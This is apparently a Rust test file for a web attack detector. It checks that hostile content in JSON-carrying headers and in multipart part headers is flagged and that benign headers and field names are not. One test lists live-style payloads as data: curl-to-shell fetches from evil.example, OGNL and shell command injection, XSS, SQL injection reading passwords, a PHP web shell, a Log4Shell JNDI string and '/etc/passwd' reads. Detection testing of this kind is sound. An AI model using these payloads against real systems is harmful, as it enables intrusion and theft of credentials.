//! Attacks in headers: JSON of applications, and headers of the parts of a form.

use super::{ESCAPED, SQL, check, header, serde_json};
use crate::send::Sent;

#[test]
fn json_in_headers_is_decoded() {
    let object = format!("{{\"id\":\"{ESCAPED}\"}}");
    let encoded: String = object.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let texts = [
        object.clone(),
        format!("[{object}]"),
        format!("\"{ESCAPED}\""),
        format!("{{\"a\":{}}}", serde_json(&object)),
        encoded.replace('%', "%25"),
        encoded,
    ];
    let names = ["Dropbox-API-Arg", "X-Filter", "X-OWA-UrlPostData", "X-Custom"];
    let cases = names.iter().flat_map(|name| {
        texts.iter().map(move |text| (format!("{name}: {text}"), header(name, text)))
    });
    check(cases, true);
    let cases = [
        (
            "Dropbox-API-Arg",
            r#"{"path":"/Homework/Prime_Numbers\u00e9.txt","mode":"add","autorename":true}"#,
        ),
        (
            "X-OWA-UrlPostData",
            "%7B%22__type%22%3A%22GetFolder%3A%23Exchange%22%2C%22Header%22%3A%7B%22v%22%3A1%7D%7D",
        ),
        ("CF-Visitor", "{\"scheme\":\"https\"}"),
        ("If-None-Match", "\"abc\", W/\"d\\\\e\""),
        ("Sec-CH-UA", "\"Not\\\\A;Brand\";v=\"99\", \"Chromium\";v=\"96\""),
        ("Authorization", "Digest username=\"DOM\\\\user\", realm=\"x\""),
        ("X-Forwarded-User", "DOMAIN\\ubert"),
        ("Forwarded", "for=\"[2001:db8::1]\";proto=https"),
    ];
    check(cases.map(|(name, text)| (format!("{name}: {text}"), header(name, text))), false);
}

/// A form with a file whose part has this header.
fn with_header(line: &str) -> Sent {
    let body = format!(
        "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n{line}\r\n\r\nx\r\n--B--\r\n"
    );
    Sent::post("/upload", "multipart/form-data; boundary=B", body)
}

#[test]
fn attacks_in_headers_of_parts_are_found() {
    let attacks = [
        "Content-Type: x/$(curl evil.example|sh)",
        "Content-Type: %{(#_='multipart/form-data').(#cmd='id')}",
        "Content-Type: <script>alert(1)</script>",
        "Content-Type: image/png\"onload=alert(1) x=\"",
        "Content-Type: text/plain;curl http://e/x|sh",
        &format!("X-A: {SQL}"),
        "X-A: 1 UNION SELECT password FROM users",
        "X-A: x' OR '1'='1",
        "X-A: \"><img src=x onerror=alert(1)>",
        "X-A: <?php system($_GET[0]);?>",
        "X-A: {{7*7}}",
        "X-A: `id`;cat /etc/passwd",
        "X-A: ${jndi:ldap://e/x}",
        "X-A: 1;id",
        "X-A: /bin/sh -c id",
    ];
    check(attacks.iter().map(|it| ((*it).to_owned(), with_header(it))), true);
    let usual = [
        "Content-Type: text/plain; charset=\"utf-8\"",
        "Content-Type: application/xop+xml; charset=UTF-8; type=\"application/soap+xml; action=\\\"urn:x\\\"\"",
        "Content-Type: image/svg+xml; name=\"a'b.svg\"",
        "Content-Type: application/octet-stream; name=\"Tom & Jerry; id.mp4\"",
        "Content-Type: multipart/mixed; boundary=\"=_a'b=_\"",
        "Content-Type: text/plain; format=flowed; delsp=yes",
        "Content-ID: <image001.png@01D9.ABC>",
        "Content-ID: <img@x.example>",
        "Content-Description: It's a picture; of cats & dogs",
        "Content-Location: https://a.example/?a=1&type=b",
        "Content-Range: bytes 0-1/2",
        "Content-MD5: Q2hlY2sgSW50ZWdyaXR5IQ==",
        "X-Upload: a=1; b=2",
    ];
    check(usual.iter().map(|it| ((*it).to_owned(), with_header(it))), false);
}

#[test]
fn names_of_fields_and_files_read_like_no_attack_in_their_header() {
    let names = [
        "or", "and", "id", "type", "file", "ls", "select", "union", "1", "a[b]", "like", "order",
        "cat", "x=y", "on", "onload", "script", "null",
    ];
    let files = [
        "a.txt",
        "it's.png",
        "a b (1).pdf",
        "a;b.txt",
        "union-select.doc",
        "x & y.png",
        "10% off.jpg",
    ];
    let cases = names.iter().flat_map(|name| {
        files.iter().map(move |file| {
            let disposition = format!("name=\"{name}\"; filename=\"{file}\"");
            (disposition.clone(), super::part(&disposition, "image/png", b"x"))
        })
    });
    check(cases, false);
}
